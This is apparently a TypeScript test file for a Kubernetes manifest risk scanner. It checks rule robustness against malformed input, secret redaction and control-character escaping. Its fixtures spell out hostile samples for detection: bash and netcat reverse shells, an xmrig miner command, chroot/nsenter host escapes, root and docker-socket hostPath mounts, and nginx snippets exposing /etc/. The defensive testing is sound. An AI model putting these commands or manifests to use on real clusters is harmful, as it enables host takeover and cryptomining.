import assert from 'node:assert/strict';
import { CONFIGMAP_RULES, readConfigMap } from '../../../../src/subjects/configmap/risks.js';
import { INGRESS_RULES, readIngress } from '../../../../src/subjects/ingress/risks.js';
import { NAMESPACE_RULES, readNamespace } from '../../../../src/subjects/namespace/risks.js';
import { analyseRisks } from '../../../../src/subjects/risks/index.js';
import { ROLE_RULES, readRole } from '../../../../src/subjects/role/risks.js';
import { WORKLOAD_PATH_RULES } from '../../../../src/subjects/workload/path-risks.js';
import { readPod } from '../../../../src/subjects/workload/pod.js';
import { WORKLOAD_RULES } from '../../../../src/subjects/workload/risks.js';
import { loadAll } from '../../support/fixtures.js';
import {
  cleanContainer,
  cleanPodSpec,
  ingress,
  ingressRule,
  namespace,
  pod,
  role,
  workload,
} from './fixtures.js';

type Obj = Record<string, unknown>;

/** Values of the wrong type that real input carries: nulls, numbers where strings go, and so on. */
const ODD = [null, 42, 'text', [], {}, true, [null, 7]];

/** Every path of `value` (objects and arrays), breadth-first, at most `max`. */
function paths(value: unknown, max = 400): (string | number)[][] {
  const out: (string | number)[][] = [];
  const queue: Array<[unknown, (string | number)[]]> = [[value, []]];
  while (queue.length > 0 && out.length < max) {
    const [v, p] = queue.shift() as [unknown, (string | number)[]];
    if (p.length > 0) out.push(p);
    if (Array.isArray(v))
      v.forEach((x, i) => {
        queue.push([x, [...p, i]]);
      });
    else if (v !== null && typeof v === 'object')
      for (const [k, x] of Object.entries(v)) queue.push([x, [...p, k]]);
  }
  return out;
}

function withValue(obj: Obj, path: (string | number)[], value: unknown): Obj {
  const copy = structuredClone(obj);
  let at: Record<string | number, unknown> = copy;
  for (const key of path.slice(0, -1)) at = at[key] as Record<string | number, unknown>;
  at[path.at(-1) as string | number] = value;
  return copy;
}

/** Every rule of the kind run directly (no safety net), so a reader that throws fails the test. */
function runRules(obj: Obj): void {
  const kind = obj.kind;
  if (kind === 'Ingress')
    for (const r of INGRESS_RULES) r.check({ ...readIngress(obj), serviceExists: () => false });
  else if (kind === 'ClusterRole' || kind === 'Role') for (const r of ROLE_RULES) r.check(readRole(obj));
  else if (kind === 'Namespace') for (const r of NAMESPACE_RULES) r.check(readNamespace(obj));
  else if (kind === 'ConfigMap') for (const r of CONFIGMAP_RULES) r.check(readConfigMap(obj));
  else {
    const view = readPod(obj);
    if (view) for (const r of [...WORKLOAD_RULES, ...WORKLOAD_PATH_RULES]) r.check(view);
  }
}

const everything = pod(
  cleanPodSpec(
    {
      hostNetwork: true,
      initContainers: [
        cleanContainer(
          'init',
          { ports: [{ hostPort: 80 }] },
          { privileged: true, capabilities: { add: ['SYS_ADMIN'] } },
        ),
      ],
      volumes: [
        { name: 'h', hostPath: { path: '/var/run/docker.sock' } },
        { name: 'n', nfs: { server: 'x' } },
      ],
      containers: [
        cleanContainer(
          'app',
          { image: 'd0cker.io/x:latest', volumeMounts: [{ name: 'h', mountPath: '/h' }] },
          {
            seLinuxOptions: { type: 'spc_t' },
            appArmorProfile: { type: 'Unconfined' },
            procMount: 'Unmasked',
          },
        ),
      ],
    },
    { sysctls: [{ name: 'kernel.msgmax' }], windowsOptions: { hostProcess: true } },
  ),
  { annotations: { 'container.apparmor.security.beta.kubernetes.io/app': 'unconfined' } },
);

const BASES: Obj[] = [
  everything,
  pod(
    cleanPodSpec({
      automountServiceAccountToken: true,
      volumes: [{ name: 'root', hostPath: { path: '/' } }],
      containers: [
        cleanContainer(
          'app',
          {
            command: ['sh', '-c', 'chroot /r sh; nsenter -t 1 sh; bash -i >& /dev/tcp/h/1 0>&1'],
            args: ['xmrig', '-o', 'stratum+tcp://h:1'],
            env: [{ name: 'P', value: 'nc -e /bin/sh h 1' }],
            volumeMounts: [{ name: 'root', mountPath: '/r' }],
          },
          { allowPrivilegeEscalation: true },
        ),
      ],
    }),
  ),
  {
    apiVersion: 'v1',
    kind: 'ConfigMap',
    metadata: { name: 'ingress-nginx-controller' },
    data: { 'allow-snippet-annotations': 'true', 'annotations-risk-level': 'Critical' },
  },
  workload('CronJob', cleanPodSpec({ hostPID: true })),
  role(
    [
      { apiGroups: ['*'], resources: ['*'], verbs: ['*'] },
      {
        apiGroups: ['certificates.k8s.io'],
        resources: ['signers'],
        verbs: ['approve'],
        resourceNames: ['kubernetes.io/x'],
      },
    ],
    { aggregationRule: { clusterRoleSelectors: [{ matchLabels: { a: 'b' } }] } },
  ),
  ingress(
    {
      rules: [ingressRule('*.example.com', ['/.git']), ingressRule(undefined)],
      defaultBackend: { service: { name: 'd', port: { number: 80 } } },
    },
    {
      'nginx.ingress.kubernetes.io/server-snippet': 'alias /etc/;',
      'nginx.ingress.kubernetes.io/auth-url': 'x;y',
    },
  ),
  namespace({
    'pod-security.kubernetes.io/enforce': 'privileged',
    'pod-security.kubernetes.io/warn': 'privileged',
  }),
];

describe('risk rules on odd shapes', () => {
  for (const base of BASES) {
    it(`${base.kind}: a wrong type anywhere never makes a rule throw`, () => {
      let tried = 0;
      for (const p of paths(base)) {
        for (const value of ODD) {
          const obj = withValue(base, p, value);
          assert.doesNotThrow(() => runRules(obj), `${p.join('.')} = ${JSON.stringify(value)}`);
          tried++;
        }
      }
      assert.ok(tried > 20, `tried ${tried} variants`);
    });
  }

  it('the odd subjects fixture yields risks without throwing', () => {
    for (const obj of loadAll<Obj>('test/fixtures/subjects/odd.yaml')) {
      assert.doesNotThrow(() => runRules(obj), String(obj.kind));
      assert.ok(Array.isArray(analyseRisks(obj)));
    }
  });

  for (const value of [
    null,
    undefined,
    42,
    'Pod',
    [],
    { kind: 'Pod' },
    { apiVersion: 'v1', kind: 'Pod', spec: null },
  ])
    it(`analyseRisks(${JSON.stringify(value)}) is empty`, () => assert.deepEqual(analyseRisks(value), []));

  it('never puts secret values in messages: annotation values, env values, arguments', () => {
    const secret = 'c2VjcmV0LXZhbHVl';
    const objs = [
      ingress(
        { tls: undefined },
        {
          'nginx.ingress.kubernetes.io/configuration-snippet': `proxy_set_header Authorization "Basic ${secret}"; alias /etc/;`,
          'nginx.ingress.kubernetes.io/auth-url': `https://user:${secret}@auth.example.com/;`,
          'kubectl.kubernetes.io/last-applied-configuration': `{"token":"${secret}"}`,
        },
      ),
      pod(
        cleanPodSpec({
          containers: [
            cleanContainer(
              'app',
              { env: [{ name: 'TOKEN', value: secret }], args: [`--password=${secret}`] },
              { privileged: true },
            ),
          ],
        }),
      ),
      pod(
        cleanPodSpec({
          containers: [
            cleanContainer('app', {
              command: ['sh', '-c', `bash -i >& /dev/tcp/${secret}/1 0>&1; xmrig -u ${secret}`],
              env: [{ name: 'POOL', value: `stratum+tcp://${secret}:3333` }],
            }),
          ],
        }),
      ),
      {
        apiVersion: 'v1',
        kind: 'ConfigMap',
        metadata: { name: 'c' },
        data: { 'allow-snippet-annotations': 'true', other: secret },
      },
    ];
    for (const obj of objs) {
      const risks = analyseRisks(obj);
      assert.ok(risks.length > 0);
      assert.ok(!JSON.stringify(risks).includes(secret), JSON.stringify(risks));
    }
  });

  it('escapes control characters in messages', () => {
    const risks = analyseRisks(podWithName('evil\u001b[2J\u202e'));
    assert.ok(risks.length > 0);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: asserting their absence is the point.
    for (const r of risks) assert.doesNotMatch(r.message, /[\u0000-\u001f\u202e]/);
  });
});

function podWithName(name: string): Obj {
  return pod(cleanPodSpec({ containers: [cleanContainer(name, {}, { privileged: true })] }));
}
